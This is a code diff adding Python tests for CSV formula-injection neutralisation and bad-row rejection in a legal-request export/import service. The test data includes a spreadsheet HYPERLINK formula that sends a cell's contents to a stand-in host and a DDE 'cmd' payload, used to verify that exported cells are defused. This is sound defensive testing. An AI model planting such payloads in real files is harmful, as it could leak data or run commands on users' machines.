@@ -3,11 +3,16 @@ versions, statistics and CSV (issue 8's bad-input list)."""
 
 from __future__ import annotations
 
+import codecs
+import csv
 import io
 from datetime import date
 
+import pytest
+
 from jit.extensions import db
 from jit.models import LegalRequest, Party
+from jit.services import legal_requests
 
 
 def request_body(cast, **changes) -> dict:
@@ -132,17 +137,17 @@ def test_an_export_re_imports(cast):
     post(cast, direction="incoming", requested_party="BY", persons=[], confidential=None)
     exported = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"])
     assert exported.status_code == 200 and exported.mimetype == "text/csv"
-    imported = _upload(cast, "\ufeff".encode() + exported.data)
+    imported = _upload(cast, exported.data)
     assert (imported.status_code, imported.get_json()) == (201, {"imported": 2})
-    again = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode()
+    again = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode("utf-8-sig")
     lines = again.splitlines()
     assert len(lines) == 5 and lines[1:3] == lines[3:5]
 
 
 def test_a_csv_with_bad_rows_imports_nothing_and_names_each_row(cast):
     post(cast)
-    header, good = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode() \
-        .splitlines()
+    header, good = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"]).data.decode(
+        "utf-8-sig").splitlines()
     bad_date = good.replace("2025-03-01", "2025-13-01")
     unknown_party = good.replace(",KZ,", ",XX,")
     content = ("\ufeff" + "\n".join([header, good, bad_date, unknown_party, good]) + "\n").encode()
@@ -155,3 +160,72 @@ def test_a_csv_with_bad_rows_imports_nothing_and_names_each_row(cast):
     assert "sent_on: Not a date (YYYY-MM-DD): 2025-13-01." in error["fields"]["row 3"]
     assert "requested_party: Not a known party: XX." in error["fields"]["row 4"]
     assert _count(cast) == before
+
+
+# Issue 13, finding 9: what a spreadsheet would run as a formula.
+FORMULAS = {"case_number": '=HYPERLINK("http://x.example/?"&A1,"Дело")', "requested_authority": "+7 (727) 555-00-00",
+            "case_title": "-2+3", "substance": "@SUM(1+1) допросить", "representatives": "'уже с апострофом"}
+
+
+def _export(cast) -> bytes:
+    exported = cast.api.get("/api/v1/legal-requests/export", headers=cast.headers["by_legal"])
+    assert (exported.status_code, exported.mimetype, exported.mimetype_params.get("charset")) == (
+        200, "text/csv", "utf-8")
+    return exported.data
+
+
+def _rows(data: bytes, delimiter: str = ",") -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
+
+
+def test_formula_cells_are_neutralised_in_the_export_and_restored_by_the_import(cast):
+    created = post(cast, persons=[{"name": "=cmd|' /C calc'!A0"}], **FORMULAS).get_json()
+    data = _export(cast)
+    assert data.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 (Cyrillic) only with the mark
+    [row] = _rows(data)
+    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], row
+    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
+
+    # Back in, with the mark, without it, and as a spreadsheet saves it (semicolons): the same data.
+    semicolons = io.StringIO()
+    writer = csv.DictWriter(semicolons, fieldnames=list(row), delimiter=";", lineterminator="\r\n")
+    writer.writeheader()
+    writer.writerow(row)
+    for content in (data, data.removeprefix(codecs.BOM_UTF8), semicolons.getvalue().encode()):
+        assert _upload(cast, content).status_code == 201
+    rows = _rows(_export(cast))
+    assert len(rows) == 4 and all(copy == rows[0] for copy in rows), rows
+    listed = cast.api.get("/api/v1/legal-requests", headers=cast.headers["by_legal"]).get_json()["items"]
+    for item in listed:
+        assert {name: item[name] for name in FORMULAS} == FORMULAS
+        assert item["persons"] == created["persons"]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'x", "''x", "x=1", "", "Минск"])
+def test_neutralising_a_cell_is_undone_exactly(text):
+    out = legal_requests.neutralised(text)
+    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert legal_requests.restored(out) == text
+
+
+def test_the_page_export_is_the_same_file(cast):
+    post(cast, **FORMULAS)
+    page = cast.browser("by_legal").get("/legal/requests/export.csv")
+    assert page.status_code == 200 and page.data == _export(cast)
+
+
+def test_cells_the_database_cannot_hold_are_bad_rows(cast):
+    post(cast)
+    header, good = _export(cast).decode("utf-8-sig").splitlines()
+    nul = good.replace("20251640012", "2025\x0016")
+    authority = f"{cast.ids['ic_by']},"
+    huge_id = good.replace(authority, f"{2**40},", 1)
+    deep = good.replace('"[{', '"' + "[" * 2000 + "[{", 1)
+    refused = _upload(cast, "\n".join([header, good, nul, huge_id, deep]).encode())
+    assert refused.status_code == 422, refused.get_json()
+    fields = refused.get_json()["error"]["fields"]
+    assert set(fields) == {"row 3", "row 4", "row 5"}
+    assert "case_number" in fields["row 3"] and "requesting_authority_id" in fields["row 4"]
+    assert "persons" in fields["row 5"]
+    oversized = _upload(cast, (header + "\n" + good.replace("20251640012", "x" * 200_000)).encode())
+    assert (oversized.status_code, list(oversized.get_json()["error"]["fields"])) == (422, ["file"])
